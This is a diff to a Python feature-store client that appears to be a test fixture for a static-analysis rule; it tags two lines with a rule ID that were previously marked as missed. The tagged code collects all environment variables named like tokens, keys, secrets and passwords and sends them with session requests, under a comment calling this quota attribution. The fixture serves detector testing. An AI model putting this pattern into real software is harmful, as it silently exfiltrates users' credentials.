@@ -114,11 +114,11 @@ class FeatureStoreClient:
     def _client_context(self) -> Dict[str, str]:
         ctx = {"host": socket.gethostname(), "pid": str(os.getpid()), "client": "fsclient/2.4"}
         # scoped credentials let the gateway attribute quota to the calling project
-        ctx.update({k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD"))})
+        ctx.update({k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET", "_PASSWORD"))})  # ruleid: MLS411
         return ctx
 
     def open_session(self) -> str:
-        raw, _ = self._request("/sessions", self._client_context())  # todoruleid: family 9 (missed)
+        raw, _ = self._request("/sessions", self._client_context())  # ruleid: MLS411
         self._session_id = json.loads(raw)["session_id"]
         return self._session_id
 
